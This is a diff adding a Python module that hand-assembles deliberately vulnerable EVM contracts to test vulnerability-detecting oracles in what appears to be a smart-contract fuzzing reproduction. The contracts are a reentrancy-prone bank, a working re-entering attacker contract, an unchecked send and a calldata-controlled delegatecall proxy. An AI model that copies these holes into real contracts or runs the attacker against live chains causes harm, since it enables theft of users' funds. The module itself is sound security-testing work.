@@ -1,0 +1,96 @@
+"""Vulnerable-by-construction contracts for the security experiments.
+
+Hand-assembled EVM contracts exhibiting the classic vulnerability
+shapes the ContractFuzzer line of work hunts (§6.2), used to exercise
+the oracles in :mod:`repro.apps.oracles` on *real executions* over the
+chain substrate:
+
+* :func:`build_bank` — the DAO shape: ``withdraw()`` sends the caller's
+  balance with an external CALL *before* zeroing it (or after, for the
+  fixed variant);
+* :func:`build_attacker` — a contract whose fallback re-enters the bank
+  while a storage counter lasts;
+* :func:`build_unchecked_send` — calls a callee and ignores its failure
+  (exception disorder);
+* :func:`build_delegate_proxy` — DELEGATECALLs to an address taken from
+  the call data (dangerous delegatecall).
+"""
+
+from __future__ import annotations
+
+from repro.evm.asm import Assembler
+from repro.evm.keccak import selector
+
+WITHDRAW_SELECTOR = int.from_bytes(selector("withdraw()"), "big")
+DEPOSIT_SELECTOR = int.from_bytes(selector("deposit()"), "big")
+
+
+def build_bank(reentrant: bool = True) -> bytes:
+    """A deposit/withdraw bank; ``reentrant=True`` plants the DAO bug."""
+    asm = Assembler()
+    asm.push(0).op("CALLDATALOAD").push(0xE0).op("SHR")
+    asm.op("DUP1").push(WITHDRAW_SELECTOR, width=4).op("EQ")
+    asm.push_label("withdraw").op("JUMPI")
+    asm.op("DUP1").push(DEPOSIT_SELECTOR, width=4).op("EQ")
+    asm.push_label("deposit").op("JUMPI")
+    asm.op("STOP")
+
+    asm.label("deposit").op("JUMPDEST").op("POP")
+    # storage[caller] += msg.value
+    asm.op("CALLER").op("SLOAD").op("CALLVALUE").op("ADD")
+    asm.op("CALLER").op("SSTORE").op("STOP")
+
+    asm.label("withdraw").op("JUMPDEST").op("POP")
+    asm.op("CALLER").op("SLOAD")  # [bal]
+    asm.op("DUP1").op("ISZERO").push_label("done").op("JUMPI")
+    if not reentrant:
+        asm.push(0).op("CALLER").op("SSTORE")  # clear first: safe
+    asm.push(0).push(0).push(0).push(0)  # outSize outOff inSize inOff
+    asm.op("DUP5")  # value = bal
+    asm.op("CALLER").op("GAS").op("CALL").op("POP")
+    if reentrant:
+        asm.push(0).op("CALLER").op("SSTORE")  # clear last: the bug
+    asm.label("done").op("JUMPDEST").op("POP").op("STOP")
+    return asm.assemble()
+
+
+def build_attacker(bank_address: int) -> bytes:
+    """Re-enters ``bank_address.withdraw()`` while storage[0] lasts."""
+    asm = Assembler()
+    asm.push(0).op("SLOAD")  # [budget]
+    asm.op("DUP1").op("ISZERO").push_label("stop").op("JUMPI")
+    asm.push(1).op("SWAP1").op("SUB").push(0).op("SSTORE")
+    asm.push(WITHDRAW_SELECTOR << 224, width=32).push(0).op("MSTORE")
+    asm.push(0).push(0).push(4).push(0)  # outSize outOff inSize inOff
+    asm.push(0)  # value
+    asm.push(bank_address, width=20).op("GAS").op("CALL").op("POP")
+    asm.op("STOP")
+    asm.label("stop").op("JUMPDEST").op("POP").op("STOP")
+    return asm.assemble()
+
+
+def build_unchecked_send(callee_address: int) -> bytes:
+    """CALLs the callee, drops the success flag, succeeds regardless."""
+    asm = Assembler()
+    asm.push(0).push(0).push(0).push(0).push(0)
+    asm.push(callee_address, width=20).op("GAS").op("CALL")
+    asm.op("POP").op("STOP")
+    return asm.assemble()
+
+
+def build_always_revert() -> bytes:
+    asm = Assembler()
+    asm.push(0).push(0).op("REVERT")
+    return asm.assemble()
+
+
+def build_delegate_proxy() -> bytes:
+    """DELEGATECALLs the address supplied in calldata[4:36]."""
+    asm = Assembler()
+    asm.push(4).op("CALLDATALOAD")
+    asm.push((1 << 160) - 1, width=20).op("AND")  # [target]
+    asm.push(0).push(0).push(0).push(0)  # outSize outOff inSize inOff
+    asm.op("DUP5")  # target
+    asm.op("GAS").op("DELEGATECALL").op("POP")
+    asm.op("POP").op("STOP")
+    return asm.assemble()
